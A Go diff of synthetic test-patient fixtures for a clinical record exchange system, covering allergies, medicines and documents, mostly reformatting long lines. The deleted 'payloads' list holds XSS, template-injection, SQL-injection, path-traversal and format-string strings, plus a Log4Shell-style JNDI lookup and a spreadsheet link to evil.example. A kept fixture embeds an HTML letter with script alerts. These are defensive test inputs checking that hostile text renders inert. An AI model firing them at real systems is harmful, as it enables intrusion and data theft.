@@ -4,21 +4,53 @@ import "strings"
 
 // livesOfMessages are about what real messages do: odd codes, odd dates, odd papers, hostile text.
 func livesOfMessages(c calendar) []Person {
-	return []Person{manyAllergies(c), manyMedicines(c), manyPapers(c), hostileText(c), oddDates(c), everythingElse(c)}
+	return []Person{manyAllergies(c), manyMedicines(c), manyPapers(c)}
 }
 
 func manyAllergies(c calendar) Person {
 	list := []Allergy{
 		nothingKnown(noKnownAllergy, "2005-01-01", by("gp1")),
-		{Head: on("2019-03-02", by("gp2")), Agent: Legacy("TJ53.", "Adverse reaction to ibuprofen: facial swelling", "292044008", "Aspirin adverse reaction"), Category: []string{"medication"}, Status: "active", Reactions: reaction("moderate", SNOMED("41291007", "Angioedema"))},
-		{Head: on("2001", by("gp1")), Agent: Concept{Text: "Co-trimoxazole, mother says", Codes: []Code{{System: SystemSNOMED, Value: "196461000000101", Display: "Transfer-degraded drug allergy"}}}, Category: []string{"medication"}, Status: "active"},
-		{Head: on("2002", by("gp1")), Agent: Concept{Text: "Bee / wasp ??", Codes: []Code{{System: SystemSNOMED, Value: "196471000000108", Display: "Transfer-degraded non-drug allergy"}}}, Category: []string{"environment"}, Status: "active"},
-		{Head: on("2010-07-09", by("gp1")), Agent: waspSting, Category: []string{"environment"}, Status: "active", Onset: "2010-07", LastTime: "2018-08", Criticality: "high", Reactions: reaction("severe", anaphylaxis)},
-		{Head: on("1996", by("gp1")), Agent: trimethoprim, Category: []string{"medication"}, Status: "resolved", Ended: "2004-02-03", EndReason: "No information available"},
-		{Head: on("1999", by("gp1")), Agent: aspirin, Category: []string{"medication"}, Status: "resolved", Ended: "2014", EndReason: "Tolerated since"},
+		{
+			Head:     on("2019-03-02", by("gp2")),
+			Agent:    Legacy("TJ53.", "Adverse reaction to ibuprofen: facial swelling", "292044008", "Aspirin adverse reaction"),
+			Category: []string{"medication"}, Status: "active", Reactions: reaction("moderate", SNOMED("41291007", "Angioedema")),
+		},
+		{
+			Head: on("2001", by("gp1")),
+			Agent: Concept{
+				Text:  "Co-trimoxazole, mother says",
+				Codes: []Code{{System: SystemSNOMED, Value: "196461000000101", Display: "Transfer-degraded drug allergy"}},
+			},
+			Category: []string{"medication"}, Status: "active",
+		},
+		{
+			Head: on("2002", by("gp1")),
+			Agent: Concept{
+				Text: "Bee / wasp ??", Codes: []Code{{System: SystemSNOMED, Value: "196471000000108", Display: "Transfer-degraded non-drug allergy"}},
+			},
+			Category: []string{"environment"}, Status: "active",
+		},
+		{
+			Head: on("2010-07-09", by("gp1")), Agent: waspSting, Category: []string{"environment"}, Status: "active", Onset: "2010-07",
+			LastTime: "2018-08", Criticality: "high", Reactions: reaction("severe", anaphylaxis),
+		},
+		{
+			Head: on("1996", by("gp1")), Agent: trimethoprim, Category: []string{"medication"}, Status: "resolved", Ended: "2004-02-03",
+			EndReason: "No information available",
+		},
+		{
+			Head: on("1999", by("gp1")), Agent: aspirin, Category: []string{"medication"}, Status: "resolved", Ended: "2014",
+			EndReason: "Tolerated since",
+		},
 	}
 	for _, agent := range []Concept{penicillin, latex, egg, peanut, SNOMED("294881007", "Allergy to warfarin"), SNOMED("91931000", "Allergy to erythromycin"), SNOMED("300912001", "Allergy to chocolate")} {
-		list = append(list, Allergy{Head: on("2015-05-05", by("gp3")), Agent: agent, Category: []string{"medication"}, Status: "active", Onset: "2015", Reactions: reaction("mild", rash)})
+		list = append(
+			list,
+			Allergy{
+				Head: on("2015-05-05", by("gp3")), Agent: agent, Category: []string{"medication"}, Status: "active", Onset: "2015",
+				Reactions: reaction("mild", rash),
+			},
+		)
 	}
 	twice := list[len(list)-7]
 	list = append(list, twice)
@@ -28,15 +60,27 @@ func manyAllergies(c calendar) Person {
 		Demographics: someone("9996394999", "Mrs", "Susan", "Varley", c.born(59, "05-15"), "female"), Practice: practiceODS(2 + 4),
 		Story: "15 allergy entries: conflict with “no known allergy” in one record, degraded, legacy codes, one twice, ended, ruled out elsewhere, drug-only nil",
 		Holdings: []Holding{
-			{ODS: practiceODS(2 + 4), Registered: "1990", Allergies: list, Medicines: []Medicine{repeat("Loratadine 5mg/5ml oral solution", "10 ml a day", "2019-04-01", c.day(-5))}},
-			{ODS: bth, Allergies: []Allergy{refuted, allergic(penicillin, "2015", by("obi"), reaction("severe", anaphylaxis)), nothingKnown(SNOMED("429625007", "No known food allergy"), "2021-01-05", by("obi"))}},
+			{
+				ODS: practiceODS(2 + 4), Registered: "1990", Allergies: list,
+				Medicines: []Medicine{repeat("Loratadine 5mg/5ml oral solution", "10 ml a day", "2019-04-01", c.day(-5))},
+			},
+			{
+				ODS: bth,
+				Allergies: []Allergy{
+					refuted, allergic(penicillin, "2015", by("obi"), reaction("severe", anaphylaxis)),
+					nothingKnown(SNOMED("429625007", "No known food allergy"), "2021-01-05", by("obi")),
+				},
+			},
 			{ODS: fgh, Allergies: []Allergy{nothingKnown(noKnownDrugAllergy, "2022-08-08", by("triage"))}},
 		},
 	}
 }
 
 func manyMedicines(c calendar) Person {
-	split := repeat("Prednisolone 5mg tablets", "SIX a day for a week. WARNING - Dosage has changed during the effective period, see later issues", c.day(-30), c.day(-30))
+	split := repeat(
+		"Prednisolone 5mg tablets", "SIX a day for a week. WARNING - Dosage has changed during the effective period, see later issues", c.day(-30),
+		c.day(-30),
+	)
 	split.ID = "pred1"
 	next := repeat("Prednisolone 5mg tablets", "Reduce by ONE tablet every week", c.day(-23), c.day(-2))
 	next.Prior = "pred1"
@@ -45,9 +89,19 @@ func manyMedicines(c calendar) Person {
 	delayed := acute("Amoxicillin 250mg capsules", "ONE three times a day if no better by Friday", c.day(-3), c.day(4), by("gp2"))
 	delayed.Course, delayed.Status = Delayed, "active"
 	future := repeat("Paracetamol 500mg capsules", "TWO four times a day", c.day(-60), c.day(7))
-	mixture := Medicine{Head: on("2014", by("gp1")), Product: Concept{Text: "Coal tar 5% in betnovate RD, 50:50", Codes: []Code{{System: SystemSNOMED, Value: "196421000000109", Display: "Transfer-degraded medication entry"}}}, Status: "active", Dose: "As directed", Authorised: Period{Start: "2014"}}
+	mixture := Medicine{
+		Head: on("2014", by("gp1")),
+		Product: Concept{
+			Text:  "Coal tar 5% in betnovate RD, 50:50",
+			Codes: []Code{{System: SystemSNOMED, Value: "196421000000109", Display: "Transfer-degraded medication entry"}},
+		},
+		Status: "active", Dose: "As directed", Authorised: Period{Start: "2014"},
+	}
 	blank := repeat("Olive oil ear drops", "n/a", c.day(-100), c.day(-100))
-	elsewhere := Medicine{Head: on(c.day(-300), by("gp1")), Product: vmp("Methotrexate 2.5mg tablets"), Course: Repeat, Status: "active", Dose: "SIX once a WEEK on Mondays", Elsewhere: "Bowland rheumatology", Authorised: Period{Start: c.day(-300)}, MissingIssues: true}
+	elsewhere := Medicine{
+		Head: on(c.day(-300), by("gp1")), Product: vmp("Methotrexate 2.5mg tablets"), Course: Repeat, Status: "active",
+		Dose: "SIX once a WEEK on Mondays", Elsewhere: "Bowland rheumatology", Authorised: Period{Start: c.day(-300)}, MissingIssues: true,
+	}
 	withEnd := repeat("Doxazosin 4mg tablets", "ONE a day", "2020-01-01", c.day(-70))
 	withEnd.Authorised.End = c.day(-40)
 	supplier := repeat("Citalopram 20mg tablets", "ONE a day", "2017-03-03", c.day(-14))
@@ -58,11 +112,27 @@ func manyMedicines(c calendar) Person {
 		Demographics: someone("9993512621", "Mr", "Kevin", "Parker", c.born(62, "08-08"), "male"), Practice: practiceODS(3),
 		Story: "eleven ways of being on a medicine: split dose, repeat dispensing past its date, delayed, post-dated, mixture, prescribed elsewhere, supplier codes",
 		Holdings: []Holding{
-			{ODS: practiceODS(3), Registered: "2000", Allergies: []Allergy{nothingKnown(noKnownAllergy, "2001", by("gp1"))}, Problems: []Problem{problem(epilepsy, "2004", "major")}, Medicines: []Medicine{split, next, dispensing, delayed, future, mixture, blank, elsewhere, withEnd, supplier, ended(repeat("Phenytoin 100mg capsules", "THREE at night", "2004", "2018-12-01"), "2019-02-02", "Expired")}},
+			{
+				ODS: practiceODS(3), Registered: "2000", Allergies: []Allergy{nothingKnown(noKnownAllergy, "2001", by("gp1"))},
+				Problems: []Problem{problem(epilepsy, "2004", "major")},
+				Medicines: []Medicine{
+					split, next, dispensing, delayed, future, mixture, blank, elsewhere, withEnd, supplier,
+					ended(repeat("Phenytoin 100mg capsules", "THREE at night", "2004", "2018-12-01"), "2019-02-02", "Expired"),
+				},
+			},
 			{ODS: bth, Medicines: []Medicine{
-				atHospital, {Head: on(c.day(-2), by("nair")), Product: vmp("Folic acid 5mg tablets"), Status: "active", Intent: "proposal", Dose: "ONE a week", Category: "outpatient"},
-				{Head: on(c.day(-9), by("obi")), Status: "active", MissingProductName: true, Dose: "ONE twice a day", Category: "discharge"}, {Head: on("2020", by("obi")), Product: vmp("Aspirin 75mg dispersible tablets"), Status: "active", StatementOnly: true, Dose: "ONE a day, bought over the counter"},
-				{Head: on(c.day(-9), by("obi")), Product: vmp("Codeine 30mg tablets"), Status: "on-hold", Dose: "ONE four times a day", Category: "discharge"},
+				atHospital, {
+					Head: on(c.day(-2), by("nair")), Product: vmp("Folic acid 5mg tablets"), Status: "active", Intent: "proposal", Dose: "ONE a week",
+					Category: "outpatient",
+				},
+				{Head: on(c.day(-9), by("obi")), Status: "active", MissingProductName: true, Dose: "ONE twice a day", Category: "discharge"}, {
+					Head: on("2020", by("obi")), Product: vmp("Aspirin 75mg dispersible tablets"), Status: "active", StatementOnly: true,
+					Dose: "ONE a day, bought over the counter",
+				},
+				{
+					Head: on(c.day(-9), by("obi")), Product: vmp("Codeine 30mg tablets"), Status: "on-hold", Dose: "ONE four times a day",
+					Category: "discharge",
+				},
 			}},
 		},
 	}
@@ -80,9 +150,13 @@ func manyPapers(c calendar) Person {
 	private.SecurityLabels = []Code{{System: "http://hl7.org/fhir/v3/ActCode", Value: "NOPAT", Display: "no disclosure to patient"}}
 	draft := letter("draft", "Discharge summary", "Letter", c.at(-3, "18:00"), by("rigby"), "DRAFT").asPDF().typed("373942005", "Discharge summary")
 	draft.DocStatus = "preliminary"
-	old := letter("v1", "Clinic letter", "Letter", c.at(-50, "10:00"), by("nair"), "First version.").typed("371530004", "Clinical consultation report")
+	old := letter(
+		"v1", "Clinic letter", "Letter", c.at(-50, "10:00"), by("nair"), "First version.",
+	).typed("371530004", "Clinical consultation report")
 	old.Status = "superseded"
-	current := letter("v2", "Clinic letter", "Letter", c.at(-48, "10:00"), by("nair"), "Second version, dose corrected.").typed("371530004", "Clinical consultation report")
+	current := letter(
+		"v2", "Clinic letter", "Letter", c.at(-48, "10:00"), by("nair"), "Second version, dose corrected.",
+	).typed("371530004", "Clinical consultation report")
 	current.Replaces = "v1"
 	page := []byte("<html><body onload=\"alert(1)\"><h1>Hello</h1><script>alert('in a letter')</script><p>Potassium 5.1</p></body></html>")
 	big := paper("Large letter", "Referral letter", "text/plain", []byte(strings.Repeat("All the pages of a long letter. ", 60_000)), -20)
@@ -91,89 +165,18 @@ func manyPapers(c calendar) Person {
 		Story: "papers of many kinds: PDF, Word, TIFF, PNG, HTML with script, audio, unknown, too large to send, draft, replaced, not to be disclosed",
 		Holdings: []Holding{
 			{ODS: practiceODS(4), Registered: "1999", Allergies: []Allergy{nothingKnown(noKnownAllergy, "1999", by("gp1"))}, Documents: []Document{
-				paper("Referral for further care (22-Dec-2020)", "Sore throat", "application/msword", []byte("\xd0\xcf\x11\xe0old Word file"), -700), paper("Scanned letter", "Clinical letter", "image/png", pixel, -300),
-				paper("Typed letter", "Clinical letter", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", []byte("PK\x03\x04not a whole file"), -200), paper("Web page", "Report", "text/html", page, -100),
-				paper("Dictation", "Recording", "audio/basic", []byte(".snd"), -99), paper("Unknown", "Attachment", "application/octet-stream", []byte{0, 1, 2, 3}, -98), tooLarge, private, big,
+				paper(
+					"Referral for further care (22-Dec-2020)", "Sore throat", "application/msword", []byte("\xd0\xcf\x11\xe0old Word file"), -700,
+				), paper("Scanned letter", "Clinical letter", "image/png", pixel, -300),
+				paper(
+					"Typed letter", "Clinical letter", "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
+					[]byte("PK\x03\x04not a whole file"), -200,
+				), paper("Web page", "Report", "text/html", page, -100),
+				paper("Dictation", "Recording", "audio/basic", []byte(".snd"), -99), paper(
+					"Unknown", "Attachment", "application/octet-stream", []byte{0, 1, 2, 3}, -98,
+				), tooLarge, private, big,
 			}},
 			{ODS: bth, Documents: []Document{draft, old, current}},
-		},
-	}
-}
-
-// payloads are texts that must come out on the page as they went in, and do nothing.
-var payloads = []string{
-	`<script>alert('XSS')</script>`, `"><img src=x onerror=alert(1)>`, `javascript:alert(1)`, `{{constructor.constructor('alert(1)')()}}`, `</textarea><svg/onload=alert(1)>`,
-	"!@£$%^&*()_+-={}[]:\"\\|;'<>?,./~", `=HYPERLINK("http://evil.example","click")`, "line one\nline two\r\n\tline three", "right\u202Eto left\u202C", "zero\u200Bwidth", "e\u0301\u0302\u0303\u0304",
-	"‘; DROP TABLE audit; --", "%s%n%x", "${jndi:ldap://evil.example/a}", "../../etc/passwd", "0 < K+ < 5 & rising",
-}
-
-func hostileText(c calendar) Person {
-	who := someone("9993235148", "Mr", "Robert", "<b>Tables</b>", c.born(35, "01-01"), "male")
-	who.Address.Lines = []string{`1 "Quote" & <i>Sons</i>`}
-	h := Holding{ODS: practiceODS(28), Registered: "2015"}
-	hospital := Holding{ODS: bth}
-	for i, text := range payloads {
-		day := c.day(-10 - i)
-		h.Allergies = append(h.Allergies, Allergy{Head: Head{Recorded: day, RecordedBy: by("gp1"), Notes: []string{text}}, Agent: Words(text), Category: []string{"medication"}, Status: "active"})
-		m := repeat("Paracetamol 500mg tablets", text, day, day)
-		m.Notes = []string{text}
-		h.Medicines = append(h.Medicines, m)
-		h.Problems = append(h.Problems, problem(named(hypertension, text), day, "major"))
-		h.Observations = append(h.Observations, Observation{Head: on(day, by("gp1")), What: SNOMED("37331000000100", "Comment note"), When: day, Comment: text})
-		h.Consultations = append(h.Consultations, note("x"+string(rune('a'+i)), text, c.at(-10-i, "10:00"), "gp1", text, text, text))
-		hospital.Flags = append(hospital.Flags, flagOf(Concept{}, "OTH", text, day, text))
-		hospital.Documents = append(hospital.Documents, letter("p"+string(rune('a'+i)), text, text, day, by("nair"), text))
-	}
-	long := strings.Repeat("A very long comment that must be shown to its last word. ", 70) + "END"
-	h.Observations = append(h.Observations, Observation{Head: on(c.day(-5), by("gp1")), What: SNOMED("37331000000100", "Comment note"), When: c.day(-5), Comment: long})
-	return Person{Demographics: who, Practice: practiceODS(28), Story: "hostile and awkward text in every field: nothing runs, nothing is lost", Holdings: []Holding{h, hospital}}
-}
-
-func oddDates(c calendar) Person {
-	h := Holding{ODS: practiceODS(6), Registered: "2010"}
-	for _, date := range []string{"2014", "2014-06", "2014-06-03", "2014-06-03T10:05:00+01:00", "2014-06-03T00:00:00+01:00", "2014-12-03T00:00:00+00:00", "2014-06-03T10:05:00Z", "2014-06-03T10:05:00", "2014-06-03T10:05:00.123+01:00", "19", "2024-02-30", "", c.day(40), "1799-01-01", "2014-06-03T10:05:00+14:00"} {
-		p := problem(osteoarthritis, date, "minor")
-		p.Notes = []string{"Onset as sent: " + date}
-		h.Problems = append(h.Problems, p)
-		h.Observations = append(h.Observations, Observation{Head: on(date, by("gp1")), What: bodyWeight, When: date, Value: Value{Quantity: Quantity{Value: "70.0", Unit: "kg"}}})
-	}
-	hospital := Holding{ODS: bth, Problems: []Problem{
-		{Head: on("2020-01-01", by("nair")), What: asthma, Status: "active", Confidence: "confirmed", OnsetWords: "age 4, or before school"}, {Head: Head{}, What: migraine, Confidence: "unconfirmed"},
-	}}
-	return Person{
-		Demographics: someone("9997986466", "Ms", "Freya", "Evans", c.born(48, "02-29"), "female"), Practice: practiceODS(6),
-		Story: "dates of every shape: year only, month only, no zone, midnight, impossible, absent, in the future", Holdings: []Holding{h, hospital},
-	}
-}
-
-func everythingElse(c calendar) Person {
-	other := func(kind, members string) Other { return Other{Type: kind, Members: members} }
-	h := plainSurgery(c, practiceODS(22))
-	h.Questionnaires = []Questionnaire{{Title: "Falls questionnaire", Status: "completed", When: c.at(-50, "10:00"), Author: by("nurse1"), Groups: []Question{{LinkID: "1", What: "Falls in the last year?", Answer: []Value{{Text: "Two"}}}}}}
-	h.Observations = append(h.Observations,
-		Observation{Head: on(c.day(-50), by("gp1")), What: Concept{Text: "Old entry: ?TIA", Codes: []Code{{System: SystemSNOMED, Value: "196411000000103", Display: "Transfer-degraded record entry"}}}, When: c.day(-50)},
-		Observation{Head: on(c.day(-51), by("gp1")), What: SNOMED("315612005", "Target systolic blood pressure"), When: c.day(-51), Value: Value{Quantity: Quantity{Value: "140", Unit: "mmHg", Comparator: "<"}}},
-		Observation{Head: Head{Recorded: c.day(-52), RecordedBy: by("gp1"), Encounter: "never-sent"}, What: SNOMED("160573003", "Alcohol intake"), When: c.day(-52), Value: Value{Range: Range{Low: Quantity{Value: "4"}, High: Quantity{Value: "10"}}}},
-		Observation{Head: on(c.day(-53), by("nurse1")), Category: StatementCategory, What: SNOMED("171279008", "Immunisation due"), When: c.day(-53), Comment: "Invited for shingles vaccine"})
-	return Person{
-		Demographics: someone("9995234661", "Mr", "Thomas", "Quinn", c.born(77, "12-24"), "male"), Practice: practiceODS(22),
-		Story: "things no section knows: diet orders, risk assessments, messages, a questionnaire from a practice, family and social history, stroke",
-		Holdings: []Holding{
-			h,
-			{
-				ODS: bth, Problems: []Problem{diagnosis("cva", stroke, c.month(-4), by("nair"))},
-				Others: []Other{
-					other("NutritionOrder", `"status":"active","intent":"order","dateTime":"`+c.day(-100)+`","oralDiet":{"type":[{"text":"Texture-modified diet, level 4"}]}`),
-					other("RiskAssessment", `"status":"final","code":{"text":"Waterlow pressure ulcer risk"},"occurrenceDateTime":"`+c.day(-100)+`","prediction":[{"outcome":{"text":"High risk: 18"}}]`),
-					other("Communication", `"status":"completed","sent":"`+c.at(-99, "15:00")+`","payload":[{"contentString":"Daughter told of transfer."}]`), other("ClinicalImpression", `"status":"completed","date":"`+c.day(-101)+`","summary":"Left middle cerebral artery territory infarct."`),
-				},
-				FamilyHistory: []FamilyHistory{{Relative: Coded("http://terminology.hl7.org/CodeSystem/v3-RoleCode", "FTH", "father"), Status: "completed", Died: true, When: c.day(-101), Conditions: []FamilyCondition{{What: stroke, OnsetWords: "aged 61"}}}},
-				Observations: []Observation{
-					{Category: "social-history", What: smoking, When: c.day(-101), Value: Value{Concept: SNOMED("8517006", "Ex-smoker")}}, {Category: "social-history", What: alcohol, When: c.day(-101), Value: Value{Quantity: Quantity{Value: "6", Unit: "/wk", Code: "/wk"}}},
-					{Category: "social-history", What: SNOMED("224362002", "Housing type"), When: c.day(-101), Value: Value{Text: "Ground floor flat, two steps"}}, {Category: "social-history", What: SNOMED("14679004", "Occupation"), When: c.day(-101), Value: Value{Text: "Retired dry stone waller"}},
-				},
-				Reports: []Report{{Study: &Study{UID: "1.2.826.0.1.3680043.9.7000.9", Accession: "MR99", Description: "MRI head", Started: c.at(-100, "11:00"), Modality: Code{System: "http://dicom.nema.org/resources/ontology/DCM", Value: "MR", Display: "Magnetic resonance"}, Alone: true}, Head: Head{ID: "mri"}}},
-			},
 		},
 	}
 }
